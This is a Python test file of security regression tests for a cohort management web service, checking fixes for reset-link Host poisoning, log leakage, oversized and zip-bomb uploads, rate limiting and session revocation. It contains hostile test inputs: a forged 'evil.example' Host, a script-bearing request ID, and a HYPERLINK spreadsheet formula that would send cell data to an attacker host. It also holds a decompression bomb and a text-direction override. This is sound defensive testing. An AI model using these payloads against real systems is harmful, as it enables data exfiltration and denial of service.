"""Findings of a probe of the running system, each closed and kept closed: every test here failed before its fix."""
from __future__ import annotations

import email
import io
import logging
import re
from dataclasses import replace
import zipfile
from email import policy

import pytest
import sqlalchemy as sa

from services.cohorts.accounts.models import OutgoingMail
from tests.support.web import form_token
from tests.support.api import coordinator_headers, create_account, setup_cohort, token
from tests.support.system import WorkerThread, wait_until


def _ask_reset(client, address, **headers):
    page = client.get("/cohorts/forgot-password", headers=headers)
    return client.post("/cohorts/forgot-password", headers=headers,
                       data={"email": address, "csrf_token": form_token(page.get_data(as_text=True))})


def test_a_reset_link_is_built_from_the_public_url_never_from_the_host_header(system):
    from services.cohorts.app import create_app
    from tests.support.smtp import SmtpSink

    account = create_account(system)
    with SmtpSink() as smtp:
        mail_url = f"smtp://127.0.0.1:{smtp.port}/?from=rostok@example.org"
        # a gateway that passes any Host on: the forged one is refused before anything is written
        strict = create_app(system.settings("cohorts", mail_url=mail_url, public_url="https://rostok.example.org",
                                            allowed_hosts=("rostok.example.org",)))
        refused = strict.test_client().post("/cohorts/forgot-password", headers={"Host": "evil.example"},
                                            data={"email": account["email"]})
        assert refused.status_code == 400
        # even where a careless setting lets that Host in, the letter links to the public address
        lax = create_app(system.settings("cohorts", mail_url=mail_url, public_url="https://rostok.example.org",
                                         allowed_hosts=("rostok.example.org", "evil.example")))
        assert _ask_reset(lax.test_client(), account["email"], Host="evil.example").status_code == 302
        with WorkerThread(lax.extensions["rostok.runtime"]):
            wait_until(lambda: smtp.messages, message="the reset letter")
        for app in (strict, lax):
            app.extensions["rostok.runtime"].dispose()
    [message] = smtp.messages
    body = email.message_from_string(message["data"], policy=policy.default).get_content()
    assert re.search(r"https://rostok\.example\.org/cohorts/set-password/\S+", body) and "evil" not in body
    with system.runtime("cohorts").session_factory() as session:
        [letter] = session.execute(sa.select(OutgoingMail)).scalars()
        assert letter.sent_at is not None and letter.body == ""  # the one-time link is not kept once sent


def test_forgot_password_answers_by_the_same_path_for_known_and_unknown_e_mails(system):
    """The request only queues a letter (the worker sends it): no SMTP round trip to time."""
    from services.cohorts.app import create_app

    account = create_account(system)
    app = create_app(system.settings("cohorts", mail_url="smtp://127.0.0.1:9/?from=rostok@example.org"))  # nobody listens
    c = app.test_client()
    known, unknown = _ask_reset(c, account["email"]), _ask_reset(c, "nobody@example.ru")
    assert known.status_code == unknown.status_code == 302 and known.headers["Location"] == unknown.headers["Location"]
    with system.runtime("cohorts").session_factory() as session:
        assert [m.to_address for m in session.execute(sa.select(OutgoingMail)).scalars()] == [account["email"]]
    app.extensions["rostok.runtime"].dispose()


def test_a_letter_that_cannot_be_sent_is_retried_later_and_keeps_its_link(system):
    from services.cohorts.accounts import mail_queue

    account = create_account(system)
    runtime = system.runtime("cohorts")
    with runtime.uow() as uow:
        mail_queue.enqueue(uow, to=account["email"], subject="s", body="link")
        uow.commit()
    assert mail_queue.send_due(runtime.session_factory, "smtp://127.0.0.1:9/") == 0  # refused connection
    with runtime.session_factory() as session:
        [letter] = session.execute(sa.select(OutgoingMail)).scalars()
        assert letter.attempts == 1 and letter.sent_at is None and letter.body == "link" and letter.last_error
        assert letter.next_attempt_at > letter.created_at


def test_unknown_hosts_are_refused_but_probes_answer_by_address(system):
    c = system.client("cohorts")
    assert c.get("/cohorts/sign-in", headers={"Host": "evil.example"}).status_code == 400
    assert c.get("/cohorts/sign-in", headers={"Host": "localhost:8000"}).status_code == 200
    assert c.get("/cohorts/healthz", headers={"Host": "10.0.3.7:8000"}).status_code == 200


def test_tokens_never_reach_the_access_log(system, caplog):
    c = system.client("cohorts")
    secret = "Zq3secretLinkToken0123456789abcdef"
    with caplog.at_level(logging.INFO, logger="rostok.access"):
        c.get(f"/cohorts/set-password/{secret}")
        system.client("fairs").get(f"/fairs/j/{secret}")
    lines = [r.getMessage() for r in caplog.records if r.name == "rostok.access"]
    assert any("/cohorts/set-password/<token>" in line for line in lines)
    assert any("/fairs/j/<token>" in line for line in lines)
    assert not any(secret in line or secret in str(getattr(r, "path", "")) for r in caplog.records for line in [r.getMessage()])


def test_a_request_id_is_logged_only_when_it_is_a_plain_token(system):
    c = system.client("cohorts")
    kept = c.get("/cohorts/healthz", headers={"X-Request-ID": "abc-123.X_y"})
    assert kept.headers["X-Request-ID"] == "abc-123.X_y"
    forged = c.get("/cohorts/healthz", headers={"X-Request-ID": "x\" injected=1 <script>"})
    assert forged.headers["X-Request-ID"] != "x\" injected=1 <script>" and re.fullmatch(r"[\w.-]+", forged.headers["X-Request-ID"])


def test_a_large_body_is_refused_before_it_is_read_and_deep_json_answers_400(system):
    c = system.client("cohorts")
    big = c.post("/cohorts/sign-in", data={"email": "a@example.ru", "password": "x" * (15 * 1024 * 1024)})
    assert big.status_code == 413
    deep = c.post("/cohorts/api/v1/auth/token", data="[" * 100_000 + "]" * 100_000, content_type="application/json")
    assert deep.status_code == 400 and deep.json["errors"] == {"body": ["Тело запроса вложено слишком глубоко."]}
    many = c.post("/cohorts/sign-in", data={f"f{i}": "1" for i in range(5000)}, content_type="multipart/form-data")
    assert many.status_code == 413  # form parts are capped


def test_the_import_alone_takes_a_file_larger_than_the_body_limit(system):
    h = coordinator_headers(system)
    cohort = setup_cohort(system, h)["cohort"]
    rows = "ФИО;Телефон\n" + "".join(f"Участник {i};\n" for i in range(6000)) + ("x" * 1024 + ";\n") * 1200
    assert len(rows.encode()) > 1024 * 1024
    r = system.client("cohorts").post(f"/cohorts/api/v1/cohorts/{cohort['id']}/imports", headers=h,
                                      data={"file": (io.BytesIO(rows.encode()), "people.csv")}, content_type="multipart/form-data")
    assert r.status_code == 422 and r.json["errors"]["file"] == ["Не больше 5000 строк за раз."]


def test_the_import_stops_reading_at_its_row_limit(system):
    """Rows past the limit are never read: a broken tail after 5 001 rows does not matter."""
    from services.cohorts.imports import reading

    text = "ФИО\n" + "".join(f"Участник {i}\n" for i in range(5001)) + '"unclosed\n' * 3
    with pytest.raises(reading.UnreadableFile) as refused:
        reading.read_rows("people.csv", text.encode(), max_rows=5000)
    assert refused.value.args[0].values == {"count": 5000}  # the row limit, not the unclosed quote further on


def _xlsx_with_sheet(xml: bytes) -> bytes:
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = xml if item.filename == "xl/worksheets/sheet1.xml" else source.read(item.filename)
            target.writestr(item.filename, data)
    return out.getvalue()


def test_a_small_workbook_that_unpacks_to_a_huge_sheet_is_refused_unread(system):
    h = coordinator_headers(system)
    cohort = setup_cohort(system, h)["cohort"]
    row = b'<row><c t="inlineStr"><is><t>A</t></is></c></row>'
    xml = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + row * 1_400_000 + b"</sheetData></worksheet>"
    content = _xlsx_with_sheet(xml)
    assert len(content) < 1024 * 1024 < len(xml)
    r = system.client("cohorts").post(f"/cohorts/api/v1/cohorts/{cohort['id']}/imports", headers=h,
                                      data={"file": (io.BytesIO(content), "people.xlsx")}, content_type="multipart/form-data")
    assert r.status_code == 422 and "МБ" in r.json["errors"]["file"][0]


def test_signed_in_answers_are_not_stored_and_pages_carry_a_script_policy(system):
    h = coordinator_headers(system)
    c = system.client("cohorts")
    api = c.get("/cohorts/api/v1/programs", headers=h)
    assert api.headers["Cache-Control"] == "no-store"
    page = c.get("/cohorts/", headers=h)
    assert page.headers["Cache-Control"] == "no-store"
    policy_ = page.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy_ and "'unsafe-inline'" not in policy_.split("script-src")[1].split(";")[0]
    assert "Strict-Transport-Security" not in page.headers  # only once configured behind TLS
    from services.cohorts.app import create_app

    tls = create_app(system.settings("cohorts", hsts_seconds=31536000))
    assert tls.test_client().get("/cohorts/sign-in").headers["Strict-Transport-Security"] == "max-age=31536000"
    tls.extensions["rostok.runtime"].dispose()


def test_no_page_template_carries_an_inline_script_or_handler():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for template in list(root.glob("services/*/**/templates/**/*.html")) + list(root.glob("shared/web/templates/**/*.html")):
        text = template.read_text()
        if re.search(r"\son[a-z]+\s*=", text) or re.search(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", text) or "javascript:" in text:
            offenders.append(str(template.relative_to(root)))
    assert offenders == []


def test_metrics_answer_the_scraper_and_coordinators_only(system):
    from services.cohorts.app import create_app

    c = system.client("cohorts")
    anonymous = c.get("/cohorts/metrics")
    assert anonymous.status_code == 302 and "rostok_" not in anonymous.get_data(as_text=True)  # to the sign-in page
    assert c.get("/cohorts/metrics", headers=_bearer(token_for(system, "mentor"))).status_code == 403
    assert c.get("/cohorts/metrics", headers=coordinator_headers(system)).status_code == 200
    scraped = create_app(system.settings("cohorts", metrics_token="m" * 40))
    sc = scraped.test_client()
    assert sc.get("/cohorts/metrics", headers={"Authorization": "Bearer " + "m" * 40}).status_code == 200
    assert sc.get("/cohorts/metrics", headers={"Authorization": "Bearer wrong"}).status_code == 302
    assert sc.get("/cohorts/api/v1/programs", headers={"Authorization": "Bearer " + "m" * 40}).status_code == 403  # nothing else
    scraped.extensions["rostok.runtime"].dispose()


def _bearer(t: str) -> dict:
    return {"Authorization": f"Bearer {t}"}


def token_for(system, role: str) -> str:
    account = create_account(system, roles=(role,))
    return token(system, account["email"], account["password"])


def test_the_remove_member_question_shows_quotes_as_quotes(system):
    from tests.support.api import register_team

    h = coordinator_headers(system)
    world = setup_cohort(system, h)
    team = register_team(system, h, world["cohort"]["id"], world["territory"]["id"], name="Команда")
    c = system.client("cohorts")
    person = c.post("/cohorts/api/v1/people", json={"full_name": 'Анна "Ласточка" Петрова'}, headers=h).json
    assert c.post(f"/cohorts/api/v1/teams/{team['id']}/members", json={"person_id": person["id"], "role": "member"}, headers=h).status_code == 201
    page = c.get(f"/cohorts/teams/{team['id']}", headers=h).get_data(as_text=True)
    question = re.search(r'data-confirm="([^"]*Ласточка[^"]*)"', page).group(1)
    assert "&#34;Ласточка&#34;" in question and "&amp;#34;" not in question  # the browser reads &#34; as a quote


def _client_from(system, address: str):
    client = system.client("cohorts")
    client.environ_base["REMOTE_ADDR"] = address
    return client


def test_one_address_guessing_many_e_mails_is_slowed_with_retry_after(system):
    from services.cohorts.accounts.rules import FREE_ADDRESS_FAILURES

    guesser = _client_from(system, "203.0.113.5")
    answers = [guesser.post("/cohorts/api/v1/auth/token", json={"email": f"victim{i}@example.ru", "password": "x" * 8}).status_code
               for i in range(FREE_ADDRESS_FAILURES + 1)]
    assert answers == [401] * FREE_ADDRESS_FAILURES + [429]
    slowed = guesser.post("/cohorts/api/v1/auth/token", json={"email": "another@example.ru", "password": "x" * 8})
    assert slowed.status_code == 429 and int(slowed.headers["Retry-After"]) >= 1
    assert slowed.json["retry_after"] == int(slowed.headers["Retry-After"])
    # another address is not slowed by it
    assert _client_from(system, "198.51.100.7").post(
        "/cohorts/api/v1/auth/token", json={"email": "victim1@example.ru", "password": "x" * 8}).status_code == 401


def test_wrong_passwords_from_one_address_do_not_lock_the_owner_out_elsewhere(system):
    from services.cohorts.accounts.rules import FREE_FAILURES

    account = create_account(system)
    guesser = _client_from(system, "203.0.113.9")
    for _ in range(FREE_FAILURES):
        guesser.post("/cohorts/api/v1/auth/token", json={"email": account["email"], "password": "wrong-guess"})
    locked = guesser.post("/cohorts/api/v1/auth/token", json={"email": account["email"], "password": account["password"]})
    assert locked.status_code == 429 and "Retry-After" in locked.headers
    owner = _client_from(system, "198.51.100.20").post("/cohorts/api/v1/auth/token",
                                                        json={"email": account["email"], "password": account["password"]})
    assert owner.status_code == 200 and owner.json["token"]


def test_sign_out_ends_a_copied_cookie_and_earlier_tokens_in_every_service(system):
    from tests.support.web import SESSION, sign_in

    account = create_account(system)
    old_token = token(system, account["email"], account["password"])
    browser = system.client("cohorts")
    assert sign_in(browser, account).status_code == 302
    cookie = browser.get_cookie(SESSION).value
    thief = system.client("cohorts")
    thief.set_cookie(SESSION, cookie)
    assert thief.get("/cohorts/").status_code == 200
    page = browser.get("/cohorts/").get_data(as_text=True)
    assert browser.post("/cohorts/sign-out", data={"csrf_token": form_token(page)}).status_code == 302
    assert thief.get("/cohorts/").status_code == 302  # to the sign-in page: the copy died with the sign-out
    assert system.client("cohorts").get("/cohorts/api/v1/accounts/me", headers=_bearer(old_token)).status_code == 401
    consultations = system.client("consultations")
    with WorkerThread(system.runtime("cohorts")), WorkerThread(system.runtime("consultations")):
        wait_until(lambda: consultations.get("/consultations/api/v1/teams", headers=_bearer(old_token)).status_code == 401,
                   message="the sign-out reaching consultations")


def test_a_token_from_before_a_deactivation_stays_dead_after_reactivation(system):
    h = coordinator_headers(system)
    account = create_account(system, roles=("mentor",))
    old_token = token(system, account["email"], account["password"])
    c = system.client("cohorts")
    assert c.patch(f"/cohorts/api/v1/accounts/{account['id']}", json={"active": False}, headers=h).status_code == 200
    assert c.patch(f"/cohorts/api/v1/accounts/{account['id']}", json={"active": True}, headers=h).status_code == 200
    assert c.get("/cohorts/api/v1/accounts/me", headers=_bearer(old_token)).status_code == 401
    assert c.get("/cohorts/api/v1/accounts/me", headers=_bearer(token(system, account["email"], account["password"]))).status_code == 200


def test_passwords_anyone_would_try_first_are_refused_naming_the_field(system):
    h = coordinator_headers(system)
    c = system.client("cohorts")
    for weak in ("12345678", "password", "Qwerty123", "aaaaaaaa", "йцукенгш", "anna.petrova-1"):
        r = c.post("/cohorts/api/v1/accounts", headers=h,
                   json={"email": "anna.petrova@example.ru", "name": "Анна", "roles": ["mentor"], "password": weak})
        assert r.status_code == 422 and list(r.json["errors"]) == ["password"], weak
    ok = c.post("/cohorts/api/v1/accounts", headers=h,
                json={"email": "anna.petrova@example.ru", "name": "Анна", "roles": ["mentor"], "password": "лодка сосна 42"})
    assert ok.status_code == 201


def test_an_idempotency_key_answers_only_the_same_request_of_the_same_sender(system):
    h = coordinator_headers(system)
    c = system.client("cohorts")
    key = {"Idempotency-Key": "phone-key-1", **h}
    territory = c.post("/cohorts/api/v1/territories", json={"district": "Мильковский МР", "settlement": "с. Шаромы"}, headers=key)
    person = c.post("/cohorts/api/v1/people", json={"full_name": "Пётр Повторов"}, headers=key)
    assert territory.status_code == person.status_code == 201 and "full_name" in person.json  # not the territory's answer
    again = c.post("/cohorts/api/v1/people", json={"full_name": "Пётр Повторов"}, headers=key)
    assert again.json["id"] == person.json["id"]  # the same request resent: the first answer
    other = coordinator_headers(system)
    theirs = c.post("/cohorts/api/v1/people", json={"full_name": "Иван Другой"}, headers={"Idempotency-Key": "phone-key-1", **other})
    assert theirs.status_code == 201 and theirs.json["id"] != person.json["id"]


def test_text_direction_controls_are_refused_naming_the_field(system):
    h = coordinator_headers(system)
    r = system.client("cohorts").post("/cohorts/api/v1/people", json={"full_name": "Иван\u202eвонавИ"}, headers=h)
    assert r.status_code == 422 and r.json["errors"] == {"full_name": ["Содержит символ, меняющий направление текста."]}


def test_a_name_that_looks_like_a_formula_stays_text_in_the_report(system):
    from openpyxl import load_workbook

    h = coordinator_headers(system)
    c = system.client("cohorts")
    program = c.post("/cohorts/api/v1/programs", headers=h, json={
        "name": '=HYPERLINK("http://evil.example/?"&A2,"Открыть")', "starts_on": "2026-03-01", "ends_on": "2026-11-30",
        "timezone": "Asia/Kamchatka"}).json
    cohort = c.post("/cohorts/api/v1/cohorts", json={"program_id": program["id"], "name": "+7 поток"}, headers=h).json
    report = c.get(f"/cohorts/api/v1/cohorts/{cohort['id']}/report.xlsx", headers=h)
    assert report.status_code == 200
    sheet = load_workbook(io.BytesIO(report.data)).worksheets[0]
    assert sheet["A1"].value.startswith("=HYPERLINK") and sheet["A1"].data_type == "s"
    assert sheet["A2"].value == "+7 поток" and sheet["A2"].data_type == "s"


def test_the_first_coordinator_from_the_environment_is_created_whatever_its_password(system, monkeypatch):
    """The operator's own choice: the password policy is for passwords people set on the pages and the API."""
    from services.cohorts.accounts.bootstrap import ensure_first_coordinator
    from services.cohorts.accounts.models import Account

    runtime = system.runtime("cohorts")
    monkeypatch.setattr(runtime, "settings", replace(runtime.settings, admin_email="newcomer@example.org",
                                                      admin_password="Newcomer-pass-1"))
    ensure_first_coordinator(runtime)
    with runtime.session_factory() as session:
        assert session.execute(sa.select(Account.email)).scalars().all() == ["newcomer@example.org"]
